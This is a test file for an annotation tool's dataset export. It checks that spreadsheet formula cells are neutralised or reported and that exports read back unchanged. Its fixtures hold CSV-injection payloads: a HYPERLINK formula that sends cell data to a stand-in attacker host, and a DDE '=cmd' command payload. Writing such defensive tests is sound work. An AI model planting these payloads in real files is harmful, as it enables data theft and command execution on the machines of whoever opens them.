/**
 * Issue #27, finding 8: the TSAR TSV export wrote cells a spreadsheet runs as
 * formulas. Every TSV/CSV lexgold writes for people neutralises such cells (a
 * leading apostrophe: lib/lexsub/formats/spreadsheet.ts), and the importers read
 * them back as they were. The TSAR export is a dataset file the shared task's
 * scripts compare byte for byte, so it writes cells as they are by default and
 * neutralises them on request (`cells: "spreadsheet-safe"`, the Datasets page's box,
 * `--cells spreadsheet-safe`); its report names every such line either way
 * (docs/datasets.md says why). Annotators cannot put such a cell there: an answer
 * starts with a letter or digit (substitute-rules.ts), so they come only from files the
 * coordinator imported.
 */
import { describe, expect, it } from "vitest";
import { parseLemmaDecisionsTsv } from "../../lib/lexsub/formats/lemma-decisions";
import { formatRankTable, type RankTable } from "../../lib/scorers/ranking";
import { SYSTEM } from "../../lib/server/kernel/actor";
import { importLexeltXml } from "../../lib/server/corpus/corpus";
import { exportDataset, importDataset, importDatasetAsNewProject } from "../../lib/server/datasets/datasets";
import { importKnownAnswers, knownAnswerItems } from "../../lib/server/quality/training";
import { world } from "./world";

const enc = (s: string) => new TextEncoder().encode(s);
/** A spreadsheet runs any of these. */
const FORMULA = /^[=+\-@\t\r]/;

/** A TSAR file an attacker hands a coordinator: a sentence, a complex word and annotations that are formulas. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click") then the plant grew\tplant\t+tree\t@cmd\t-flower\t-flower',
  "@SUM(1+1) a quiet sea\t@SUM(1+1)\tcalm",
  "'=already quoted once and the tide\ttide\tsea",
].join("\n");

function cells(tsv: string): string[] {
  return tsv.split("\n").filter((l) => l !== "").flatMap((l) => l.split("\t"));
}

describe("finding 8: no formula cells in the TSAR export when asked, every one reported, and the import reads either export back", () => {
  const id = (w: ReturnType<typeof world>, name: string) => (w.db.$client.prepare("select id from projects where name = ?").get(name) as { id: number }).id;
  const sentences = (w: ReturnType<typeof world>, name: string) =>
    w.db.$client.prepare("select i.before || i.head || i.after as s, i.head as h from instances i where i.project_id = ? order by i.id").all(id(w, name));

  it("spreadsheet-safe: an imported hostile TSAR file is exported with every cell neutralised, and reads back unchanged", () => {
    const w = world();
    const first = importDatasetAsNewProject(w.db, SYSTEM, "hostile", { format: "tsar", fileName: "h.tsv", bytes: enc(HOSTILE) });
    expect(first.instancesAdded).toBe(3);
    const out = exportDataset(w.db, SYSTEM, id(w, "hostile"), "tsar", { cells: "spreadsheet-safe" });
    for (const c of cells(out.text)) expect(c, c).not.toMatch(FORMULA);
    expect(out.text.split("\n")[0]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"click") then the plant grew\tplant\t'+tree\t'@cmd\t'-flower\t'-flower`);

    // The export imported again gives the same sentences, heads and gold.
    importDatasetAsNewProject(w.db, SYSTEM, "again", { format: "tsar", fileName: "h.tsv", bytes: enc(out.text) });
    const again = exportDataset(w.db, SYSTEM, id(w, "again"), "tsar", { cells: "spreadsheet-safe" });
    expect(again.text).toBe(out.text);
    expect(sentences(w, "again")).toEqual(sentences(w, "hostile"));
    expect((sentences(w, "again") as { s: string }[]).map((r) => r.s)).toEqual([
      '=HYPERLINK("http://evil.example/?"&A1,"click") then the plant grew',
      "@SUM(1+1) a quiet sea",
      // A cell that came neutralised is read as its value, as the responses import does.
      "=already quoted once and the tide",
    ]);
  });

  it("raw (the default): the cells are written as the project holds them, each such line is named in the report, and the file reads back the same", () => {
    const w = world();
    importDatasetAsNewProject(w.db, SYSTEM, "hostile", { format: "tsar", fileName: "h.tsv", bytes: enc(HOSTILE) });
    const out = exportDataset(w.db, SYSTEM, id(w, "hostile"), "tsar");
    // The third line's apostrophe was the file's own neutralisation: the value has none.
    expect(out.text).toBe(HOSTILE.replace("'=already", "=already") + "\n");
    expect(out.lost.find((l) => l.includes("written as it is"))).toMatch(/^3 lines have a cell beginning with =, \+, -, @, .*a spreadsheet opening this file would run it as a formula.* \(h:1, h:2, h:3\)$/);
    importDatasetAsNewProject(w.db, SYSTEM, "again", { format: "tsar", fileName: "h.tsv", bytes: enc(out.text) });
    expect(sentences(w, "again")).toEqual(sentences(w, "hostile"));
    expect(exportDataset(w.db, SYSTEM, id(w, "again"), "tsar").text).toBe(out.text);
  });

  it("the dataset import restores a neutralised cell into a project that has other data", () => {
    const w = world();
    importDataset(w.db, w.coord, w.p.id, { format: "tsar", fileName: "t.tsv", bytes: enc("'-minus a swift reply\tswift\t'+quick\n") });
    const row = w.db.$client.prepare("select before, head, after from instances where project_id = ? and head = 'swift'").get(w.p.id);
    expect(row).toEqual({ before: "-minus a ", head: "swift", after: " reply" });
  });

  it("the ranking table's CSV neutralises run names", () => {
    const t: RankTable = { benchmark: "tsar", gold: "g", columns: ["MAP@1"], rankedBy: "MAP@1", digits: 4, settings: [], rows: [{ run: '=cmd|" /C calc"!A0', format: "tsv", values: [0.5], items: 1, report: "" }], diagnostics: [] };
    const csv = formatRankTable(t, { csv: true });
    expect(csv).toBe(`Rank,Run,MAP@1\n1,"'=cmd|"" /C calc""!A0",0.5000\n`);
  });

  it("the lemma decisions and known answers TSVs read a neutralised cell as its value", () => {
    expect(parseLemmaDecisionsTsv("'-dash\t'=lemma\n", "d.tsv").decisions).toEqual([{ line: 1, form: "-dash", decision: "overridden", lemma: "=lemma" }]);
    const w = world();
    importLexeltXml(w.db, SYSTEM, w.p.id, {
      fileName: "minus.xml",
      bytes: enc(`<?xml version="1.0"?>\n<corpus lang="english"><lexelt item="swift.a"><instance id="-9"><context>a <head>swift</head> reply</context></instance></lexelt></corpus>\n`),
    });
    expect(importKnownAnswers(w.db, w.coord, w.p.id, { role: "training", fileName: "k.tsv", text: "'-9\tquick;rapid\n" })).toEqual({ added: 1 });
    expect(knownAnswerItems(w.db, w.coord, w.p.id).map((k) => k.instanceId)).toEqual(["-9"]);
  });
});
